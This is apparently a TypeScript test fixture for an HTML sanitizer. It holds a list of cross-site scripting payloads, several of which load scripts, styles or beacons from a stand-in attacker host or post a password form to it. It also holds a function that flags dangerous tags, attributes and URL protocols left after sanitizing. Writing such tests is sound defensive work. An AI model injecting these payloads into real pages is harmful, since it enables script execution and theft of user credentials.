/** HTML that tries to run a script, to cover the page, or to call home. */
export const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<p>a<script>alert(1)//</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.example/x 1x" src="/a.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://x.in" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://x.in" target="_top" ping="https://evil.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background-color:white">x</p>',
  '<p style="-moz-binding:url(https://evil.example/x)">x</p>',
  '<p style="color:red;}body{display:none">x</p>',
  '<div style="background-image:url(https://evil.example/pixel)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)" srcdoc="x"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<video src="x" onerror="alert(1)"><source onerror="alert(1)" src="javascript:alert(1)"></video>',
  '<video poster="javascript:alert(1)" src="/a.mp4"></video>',
  '<audio src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<p title="><img src=x onerror=alert(1)>">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="attributes" name="body">x</p><img name="cookie" id="cookie" src="/a.png">',
  '<p class="MuiBackdrop-root MuiModal-root">x</p>',
  '<p contenteditable data-x="1" slot="x" is="x-y" tabindex="1" accesskey="x">x</p>',
];

/** Dangerous remains of an attack, in words; empty if it was neutralised. */
export function harmIn(root: ParentNode): string[] {
  const dangers: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName;
    if (
      /^(script|style|link|meta|base|object|embed|applet|form|input|button|svg|math|template|audio|marquee)$/.test(tag)
    ) {
      dangers.push(`<${tag}>`);
    }
    for (const { name, value } of element.attributes) {
      if (/^(on|srcdoc|formaction|srcset|ping|background|xlink|data-|contenteditable|name|tabindex)/.test(name)) {
        dangers.push(`${name} on <${tag}>`);
      }
      if (/^(href|src|poster|cite)$/.test(name)) {
        const { protocol } = new URL(value, 'https://site.example');
        if (!['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)) dangers.push(`${protocol} in ${name}`);
      }
      if (name === 'style' && /url|expression|position|binding|behavior|[{}\\]/i.test(value))
        dangers.push(`style ${value}`);
      if (name === 'class' && value.includes('Mui')) dangers.push(`class ${value}`);
    }
    if (tag === 'iframe' && !/^https:\/\/www\.youtube\.com\/embed\/x$/.test(element.getAttribute('src') ?? '')) {
      dangers.push('a foreign frame');
    }
  }
  return dangers;
}
